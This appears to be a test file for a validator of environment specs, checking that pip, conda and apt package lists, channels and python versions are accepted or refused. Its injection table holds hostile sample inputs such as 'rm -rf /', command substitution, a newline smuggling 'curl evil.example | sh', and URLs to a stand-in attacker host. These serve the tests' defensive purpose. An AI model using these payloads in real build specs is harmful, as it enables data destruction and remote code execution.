import { normalizeSpec, specProblems } from './environment-spec.rules';
import type { EnvironmentSpecInput } from './environment-spec';

const problemsOf = (input: EnvironmentSpecInput, name = 'env') => specProblems(input, name);

/** Hostile strings, one case each: every one must be refused in every package list. */
const INJECTIONS: [string, string][] = [
  ['a command after a semicolon', 'numpy; rm -rf /'],
  ['command substitution', '$(id)'],
  ['command substitution after a name', 'numpy$(id)'],
  ['backticks', '`id`'],
  ['backticks after a name', 'numpy`id`'],
  ['a newline starting a new Dockerfile instruction', 'numpy\nRUN curl evil.example | sh'],
  ['a carriage return', 'numpy\rRUN id'],
  ['a line continuation', 'numpy \\'],
  ['a pipe', 'numpy|sh'],
  ['a logical and', 'numpy&&id'],
  ['a redirect to a file', 'numpy>/etc/passwd2'],
  ['a single quote closing the quoting', "numpy' 'evil"],
  ['a double quote', 'numpy"'],
  ['a space-separated second argument', 'numpy evil'],
  ['a tab', 'numpy\tevil'],
  ['a NUL byte', 'numpy\u0000'],
  ['a pip option with a URL', '--index-url=https://evil.example/simple'],
  ['an extra index option', '--extra-index-url https://evil.example'],
  ['an editable VCS install', '-e git+https://evil.example/x.git#egg=x'],
  ['a short option', '-r/etc/passwd'],
  ['a direct URL reference', 'numpy @ https://evil.example/numpy.whl'],
  ['a bare URL', 'https://evil.example/numpy.whl'],
  ['a file URL', 'file:///etc/passwd'],
  ['a local path', './evil'],
  ['an absolute path', '/tmp/evil.whl'],
  ['an environment marker', 'numpy;python_version>"3"'],
  ['a comment', 'numpy#evil'],
  ['a variable reference', '${HOME}'],
  ['a glob', 'numpy*'],
  ['an empty string', ''],
  ['a very long name', 'a'.repeat(300)],
];

describe('specProblems', () => {
  it('accepts a spec with only valid packages', () => {
    expect(
      problemsOf({
        python: '3.11',
        conda: ['numpy=1.26', 'pandas', 'scipy>=1.10,<2', 'libblas=3.9.0=20_linux64_openblas', 'r-base==4.3.1'],
        channels: ['conda-forge', 'bioconda'],
        pip: [
          'requests==2.32.3',
          'Django>=4.2,<5',
          'uvicorn[standard]~=0.30',
          'zope.interface',
          'pkg_name!=1.0.post1',
          'x===1.0+local.7',
        ],
        apt: ['python3-numpy', 'libgomp1=12.2.0-14', 'g++', 'libstdc++6', 'tzdata=1:2024a-0+deb12u1'],
      }),
    ).toEqual([]);
  });

  describe.each(['pip', 'conda', 'apt'] as const)('refuses injection attempts in %s', (field) => {
    it.each(INJECTIONS)('%s', (_label, value) => {
      const problems = problemsOf({ [field]: ['ok-package', value] });
      expect(problems).toHaveLength(1);
      expect(problems[0]).toMatch(new RegExp(`^${field}\\.1 must be a`));
    });
  });

  it.each(INJECTIONS)('refuses %s as a conda channel', (_label, value) => {
    const problems = problemsOf({ conda: ['numpy'], channels: [value] });
    expect(problems).toHaveLength(1);
    expect(problems[0]).toMatch(/^channels\.0 must be a conda channel name/);
  });

  it('refuses channel URLs, which would point a build at any host', () => {
    expect(problemsOf({ conda: ['numpy'], channels: ['https://evil.example/channel'] })[0]).toMatch(/^channels\.0/);
  });

  it('quotes the refused value back, shortened, as JSON', () => {
    const [problem] = problemsOf({ pip: ['numpy; rm -rf /'] });
    expect(problem).toContain('got "numpy; rm -rf /"');
    const [long] = problemsOf({ apt: ['x'.repeat(300)] });
    expect(long.length).toBeLessThan(400);
  });

  it.each([
    ['pip', ['numpy', 'NumPy==1.26'], 'pip.1 lists numpy again (as pip.0 did)'],
    ['pip', ['typing_extensions', 'typing-extensions'], 'pip.1 lists typing-extensions again'],
    ['conda', ['numpy=1.26', 'numpy>=1'], 'conda.1 lists numpy again'],
    ['apt', ['curl', 'curl=7.88.1-10'], 'apt.1 lists curl again'],
  ])('refuses a %s package listed twice', (field, values, message) => {
    expect(problemsOf({ [field]: values })).toEqual([expect.stringContaining(message)]);
  });

  it.each([
    ['pip', 'numpy[]'],
    ['apt', 'a'],
    ['apt', 'Python3-numpy'],
    ['apt', 'curl=latest'],
    ['conda', 'NumPy'],
    ['conda', 'conda-forge::numpy'],
    ['pip', 'numpy=1.26'],
    ['pip', 'numpy==1.26 '],
  ])('refuses %s %j, which the ecosystem does not allow or this service does not take', (field, value) => {
    expect(problemsOf({ [field]: [value] })).toEqual([expect.stringMatching(new RegExp(`^${field}\\.0 must be`))]);
  });

  it('requires at least one package', () => {
    expect(problemsOf({})).toEqual(['conda, pip or apt must list at least one package']);
    expect(problemsOf({ pip: [], apt: [] })).toEqual(['conda, pip or apt must list at least one package']);
  });

  it('refuses channels without conda packages', () => {
    expect(problemsOf({ pip: ['x'], channels: ['conda-forge'] })).toEqual([
      expect.stringMatching(/^channels is only used with conda/),
    ]);
  });

  it('refuses python among the conda packages, which has its own field', () => {
    expect(problemsOf({ conda: ['numpy', 'python=3.12'] })).toEqual([
      expect.stringMatching(/^conda\.1 must not be python/),
    ]);
  });

  it.each(['3', '3.11.4', '2.7', 'latest', '3.11; id', ''])('refuses python %j', (python) => {
    expect(problemsOf({ python, pip: ['x'] })).toEqual([expect.stringMatching(/^python must be a version like 3\.11/)]);
  });

  it.each(['3.8', '3.11', '3.13'])('accepts python %s', (python) => {
    expect(problemsOf({ python, pip: ['x'] })).toEqual([]);
  });

  it('refuses an environment built on itself', () => {
    expect(problemsOf({ pip: ['x'], base: 'env' }, 'env')).toEqual([
      'base must name another environment, not this one',
    ]);
  });

  it('refuses a base name that is not an environment name', () => {
    expect(problemsOf({ pip: ['x'], base: '../default' })).toEqual([expect.stringMatching(/^base must match/)]);
  });

  it('refuses more packages than the maximum', () => {
    const many = Array.from({ length: 201 }, (_, i) => `pkg${i}`);
    expect(problemsOf({ pip: many })).toEqual(['pip must have at most 200 entries']);
  });

  it('names every problem at once', () => {
    const problems = problemsOf({ pip: ['$(id)'], apt: ['`id`'], conda: ['ok', 'a b'], python: 'x' });
    expect(problems.map((p) => p.split(' ')[0])).toEqual(['conda.1', 'pip.0', 'apt.0', 'python']);
  });
});

describe('normalizeSpec', () => {
  it('fills in defaults', () => {
    expect(normalizeSpec({ pip: ['x'] })).toEqual({
      python: null,
      conda: [],
      channels: [],
      pip: ['x'],
      apt: [],
      base: 'default',
    });
  });

  it('sorts package lists, whose order means nothing, and keeps the channel order, which is a priority', () => {
    const spec = normalizeSpec({ conda: ['b', 'a'], pip: ['z', 'y'], apt: ['n', 'm'], channels: ['second', 'first'] });
    expect(spec.conda).toEqual(['a', 'b']);
    expect(spec.pip).toEqual(['y', 'z']);
    expect(spec.apt).toEqual(['m', 'n']);
    expect(spec.channels).toEqual(['second', 'first']);
  });

  it('does not change its input', () => {
    const input = { pip: ['b', 'a'] };
    normalizeSpec(input);
    expect(input.pip).toEqual(['b', 'a']);
  });
});
